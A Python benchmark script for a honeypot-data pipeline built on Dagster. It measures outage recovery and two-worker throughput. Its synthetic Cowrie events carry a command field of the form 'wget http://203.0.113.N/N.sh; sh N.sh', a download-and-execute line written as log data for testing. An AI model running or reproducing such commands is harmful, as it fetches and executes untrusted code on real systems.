"""Several workers on one store: what outages cost, and what a second worker gives.

    python -m benchmarks.fleet outages [--hours 48] [--events 3000]
    python -m benchmarks.fleet ratio [--hours 12] [--events 100000]

Starts PostgreSQL, Redis, Azurite, Dagster's daemon and webserver, and workers, as `deploy/celery`
sets them up, each with a working folder of its own. `outages` backfills from the UI's interface
while a capture lands every five seconds, kills a worker, and restarts Redis and PostgreSQL. `ratio`
does backfills with one worker and with two, each of one process with one thread. Both end with
exact counts. Not here: the short version that tests run (`stingar_dagster_tests/fleet`).
"""

import argparse
import contextlib
import os
import tempfile
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Final

from benchmarks.measuring import descendants
from stingar_dagster.lake.ledger import read_ledger
from stingar_dagster.lake.publication import read_record
from stingar_dagster.verify import verify
from stingar_dagster_tests.fleet.machines import Fleet, running_fleet
from stingar_dagster_tests.support import capture, event

HOUR: Final = timedelta(hours=1)
LAND_EVERY_SECONDS: Final = 5.0
DOWN_SECONDS: Final = 20.0
RESTART_SECONDS: Final = 10.0
"""As long as systemd waits before it starts a worker again."""
PATIENCE: Final = 3600.0
ASSETS: Final = ("landed_events", "quarantined_events", "cleaned_events")
TEMPLATE: Final = datetime(2026, 1, 1, 0, tzinfo=UTC)
HOURS_A_BACKFILL: Final = 6


def main() -> None:
    """Measure one of the two, and say what came out."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("what", choices=["outages", "ratio"])
    parser.add_argument("--hours", type=int)
    parser.add_argument("--events", type=int, help="in an hour")
    options = parser.parse_args()
    if options.what == "outages":
        outages(options.hours or 48, options.events or 3000)
    else:
        ratio(options.hours or 12, options.events or 100_000)


def this_hour() -> datetime:
    return datetime.now(UTC).replace(minute=0, second=0, microsecond=0)


def key(hour: datetime) -> str:
    return f"{hour:%Y-%m-%d-%H:%M}"


def land_history(fleet: Fleet, hours: list[datetime], events: int) -> None:
    """An hour's capture, for each hour from a partition of its own, so that no identity repeats."""
    step = HOUR / (events + 1)
    bodies = [
        event(
            TEMPLATE + index * step,
            src_ip=f"198.51.100.{index % 250}",
            src_port=1024 + index % 60_000,
            dest_ip="192.0.2.10",
            app="cowrie",
            vendor_product="Cowrie",
            signature="command attempted on cowrie honeypot",
            severity="high",
            tags=["beats_input_raw_event"],
            command=f"wget http://203.0.113.{index % 200}/{index % 977}.sh; sh {index % 977}.sh",
            loggedin=["root", f"{index % 4001}"],
        )
        for index in range(events)
    ]
    blob = capture(bodies, received=TEMPLATE)
    for number, hour in enumerate(hours):
        # As long as before, so the blocks stay as they are.
        changed = blob.replace(f"{TEMPLATE:%Y-%m-%dT%H}".encode(), f"{hour:%Y-%m-%dT%H}".encode())
        fleet.site.put_blob(changed, partition=100 + number, start=hour)
        fleet.site.blobs.clear()


class LiveTraffic:
    """A capture every few seconds, and how long each took to be published."""

    def __init__(self, fleet: Fleet) -> None:
        self._fleet = fleet
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._land)
        self.landed = 0
        self.waits: list[float] = []

    def __enter__(self) -> "LiveTraffic":
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join()

    def _land(self) -> None:
        waiting: list[tuple[int, float]] = []
        hour = this_hour()
        while not self._stop.wait(LAND_EVERY_SECONDS):
            bodies = [event(hour + timedelta(seconds=s)) for s in range(10)]
            begin = time.time()
            start = hour + timedelta(seconds=1 + self.landed // len(bodies))
            self._fleet.site.put(bodies, start=start, first=1 + self.landed)
            self.landed += len(bodies)
            waiting.append((self.landed, begin))
            waiting = self._seen(waiting, hour)

    def _seen(self, waiting: list[tuple[int, float]], hour: datetime) -> list[tuple[int, float]]:
        lake = self._fleet.site.pipeline().lake
        record = read_record(lake.store, lake.layout.hour_record("events", hour))
        lines = record.rows if record is not None else 0
        for count, begin in waiting:
            # One event was there before the first.
            if lines >= count + 1:
                self.waits.append(time.time() - begin)
        return [item for item in waiting if lines < item[0] + 1]


def outages(hours: int, events: int) -> None:
    """A backfill during live traffic, with a killed worker, and Redis and PostgreSQL restarted."""
    begin = time.monotonic()

    def say(text: str) -> None:
        print(f"{time.monotonic() - begin:7.1f} s  {text}", flush=True)

    with _fleet() as fleet:
        fleet.daemon()
        fleet.webserver()
        fleet.worker("first-live", ["stingar-live"], 1)
        fleet.worker("first-backfill", ["stingar-backfill"], 1)
        fleet.worker("second-live", ["stingar-live"], 1)
        fleet.worker("second-backfill", ["stingar-backfill"], 1)
        _warm_up(fleet)
        past = [this_hour() - 240 * HOUR + number * HOUR for number in range(hours)]
        land_history(fleet, past, events)
        with LiveTraffic(fleet) as live:
            asked = time.monotonic()
            backfill = fleet.backfill([key(hour) for hour in past], *ASSETS)
            say(f"backfill of {hours} hours of {events:,} events asked for")
            fleet.wait_until(lambda: bool(fleet.at_work(backfill)), "at work", PATIENCE)
            run, machine = fleet.at_work(backfill)[0]
            machine.kill()
            say(f"{machine.name} killed in the middle of a run")
            time.sleep(RESTART_SECONDS)
            machine.start()
            failed = fleet.wait_until(lambda: _status(fleet, run) == "FAILURE", "found", PATIENCE)
            failed += RESTART_SECONDS
            say(f"its run found and failed after {failed:.0f} s")
            again = fleet.wait_until(
                lambda: fleet.retry_of(run) in dict(fleet.at_work(backfill)), "again", PATIENCE
            )
            say(f"at work again after {failed + again:.0f} s")
            _restart(fleet, "Redis", say)
            _restart(fleet, "PostgreSQL", say)
            status = fleet.wait_until_over(backfill, PATIENCE)
            say(f"{status} after {time.monotonic() - asked:.0f} s")
        stuck = fleet.wait_until(lambda: not fleet.unfinished(), "every run done", PATIENCE)
        say(f"no run under way {stuck:.0f} s later")
        _settle(fleet)
        waits = sorted(live.waits)
        if waits:
            middle, worst = waits[len(waits) // 2], waits[-1]
            say(f"live captures published after {middle:.0f} s (median), {worst:.0f} s (longest)")
        expected = hours * events + live.landed + 1
        _prove(fleet, expected, say)
        statuses = [status for _, status, _ in fleet.runs()]
        say(f"runs: { {status: statuses.count(status) for status in set(statuses)} }")


def _restart(fleet: Fleet, which: str, say: object) -> None:
    server = fleet.redis if which == "Redis" else fleet.postgres
    server.stop()
    time.sleep(DOWN_SECONDS)
    server.start()
    assert callable(say)
    say(f"{which} was away for {DOWN_SECONDS:.0f} s")
    time.sleep(DOWN_SECONDS)


def ratio(hours: int, events: int) -> None:
    """Backfills of as many hours by one worker and by two, in turn."""
    seconds: dict[int, list[float]] = {1: [], 2: []}
    with _fleet() as fleet:
        fleet.environ["POLARS_MAX_THREADS"] = "1"
        fleet.environ["STINGAR_PROCESSES"] = "1"
        fleet.daemon()
        fleet.webserver()
        live = fleet.worker("live", ["stingar-live"], 1)
        _warm_up(fleet)
        # They would see what backfills land, and ask for live runs that nobody does meanwhile.
        _stop_sensors(fleet)
        live.kill()
        workers = [fleet.worker(f"worker-{number}", ["stingar-backfill"], 1) for number in (0, 1)]
        rounds = (1, 2, 2, 1)
        first = this_hour() - 450 * HOUR
        past = [
            [first + (turn * hours + number) * HOUR for number in range(hours)]
            for turn in range(len(rounds))
        ]
        land_history(fleet, [hour for some in past for hour in some], events)
        # Everything that a worker does once is done before.
        _backfilled(fleet, [first - HOUR])
        _backfilled(fleet, [first - 2 * HOUR])
        workers[1].kill()
        for count, some in zip(rounds, past, strict=True):
            if count == 2 and not workers[1].is_running:
                workers[1].start()
                time.sleep(20)
            elif count == 1:
                workers[1].kill()
            begin, load = time.monotonic(), _others()
            _backfilled(fleet, some)
            took = time.monotonic() - begin
            seconds[count].append(took)
            print(
                f"{count} workers: {took:.0f} s, {hours * events / took:,.0f} events/s; "
                f"others took {(_others() - load) / took:.2f} cores of {os.cpu_count()}",
                flush=True,
            )
            lake = fleet.site.pipeline().lake
            ledgers = (read_ledger(lake.store, lake.layout, hour) for hour in some)
            lines = [line for ledger in ledgers for line in ledger.lines.values()]
            assert sum(line.cleaned for line in lines) == hours * events
    least = {count: min(times) for count, times in seconds.items()}
    print(f"throughput of two against one, best of two each: {least[1] / least[2]:.2f}")


def _backfilled(fleet: Fleet, hours: list[datetime]) -> None:
    """Land hours again, some at a time, and wait until it is done.

    Landing is the step with most work. With the steps after it, Dagster would look after a backfill
    only every 30 seconds.
    """
    before = _runs_done(fleet)
    asked = range(0, len(hours), HOURS_A_BACKFILL)
    for first in asked:
        fleet.backfill([key(hour) for hour in hours[first : first + HOURS_A_BACKFILL]], ASSETS[0])
    fleet.wait_until(lambda: _runs_done(fleet) - before >= len(asked), "backfills done", PATIENCE)


def _runs_done(fleet: Fleet) -> int:
    (done,) = fleet.postgres.query(
        "select count(*) from runs where status = 'SUCCESS' and run_id in "
        "(select run_id from run_tags where key = 'dagster/backfill')",
        "dagster",
    )
    return int(done[0])


def _others() -> float:
    """Processor seconds that the machine spent on anything but this benchmark."""
    with open("/proc/stat") as stat:
        user, nice, system = (int(number) for number in stat.readline().split()[1:4])
    ticks = os.sysconf("SC_CLK_TCK")
    return (user + nice + system) / ticks - sum(map(_with_ended, descendants(os.getpid())))


def _with_ended(pid: int) -> float:
    """Processor seconds of a process and of those of its children that ended; 0 if it is gone."""
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    except OSError:
        return 0.0
    return sum(map(int, fields[11:15])) / os.sysconf("SC_CLK_TCK")


def _status(fleet: Fleet, run: str) -> str:
    return next((status for _, status, known in fleet.runs() if known == run), "")


@contextlib.contextmanager
def _fleet(changes: dict[str, str] | None = None) -> Iterator[Fleet]:
    """Servers; what is written goes with them."""
    start = this_hour() - 480 * HOUR
    with (
        tempfile.TemporaryDirectory(prefix="stingar-fleet-") as folder,
        running_fleet(Path(folder), f"{start:%Y-%m-%d}", changes) as fleet,
    ):
        os.environ["AZURE_STORAGE_CONNECTION_STRING"] = fleet.azurite.connection_string
        yield fleet


def _warm_up(fleet: Fleet) -> None:
    """Until one event of this hour went the whole way."""
    fleet.site.put([event(this_hour())], start=this_hour())
    fleet.wait_until(fleet.is_serving, "the UI", PATIENCE)
    fleet.wait_until(lambda: len(fleet.site.events()) == 1, "the first event", PATIENCE)
    fleet.wait_until(lambda: not fleet.unfinished(), "idle", PATIENCE)


def _stop_sensors(fleet: Fleet) -> None:
    """As somebody at the UI does it."""
    (repositories,) = fleet.graphql(
        "{ repositoriesOrError { ... on RepositoryConnection "
        "{ nodes { sensors { name sensorState { id status } } } } } }"
    ).values()
    for repository in repositories["nodes"]:
        for sensor in repository["sensors"]:
            if sensor["sensorState"]["status"] == "RUNNING":
                (answer,) = fleet.graphql(
                    "mutation($id: String!) { stopSensor(id: $id) "
                    "{ __typename ... on StopSensorMutationResult { instigationState { status } } "
                    "} }",
                    id=sensor["sensorState"]["id"],
                ).values()
                assert answer["instigationState"]["status"] == "STOPPED", answer


def _settle(fleet: Fleet) -> None:
    """Until nothing is pending and nothing runs."""
    for _ in range(3):
        fleet.wait_until(lambda: not fleet.unfinished(), "idle", PATIENCE)
        time.sleep(15)


def _prove(fleet: Fleet, expected: int, say: object) -> None:
    assert callable(say)
    proof = verify(fleet.site.pipeline())
    found = ", ".join(
        f"{name} {proof.total(name):,}" for name in ("captured", "cleaned", "quarantined")
    )
    say(
        f"verify: {'it holds' if proof.holds else 'IT DOES NOT HOLD'}; {found}; landed {expected:,}"
    )
    for problem in proof.problems[:5]:
        say(f"  {problem}")


if __name__ == "__main__":
    main()
